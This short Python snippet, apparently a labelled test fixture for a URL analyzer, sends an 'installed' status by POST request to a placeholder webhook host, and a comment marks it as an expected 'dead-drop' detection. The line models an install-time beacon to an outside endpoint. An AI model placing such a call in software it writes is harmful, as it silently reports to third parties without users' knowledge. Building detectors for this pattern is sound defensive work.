import requests

requests.post("https://webhook.test/7f2c", json={"state": "installed"})  # expect: url-analyzer/dead-drop
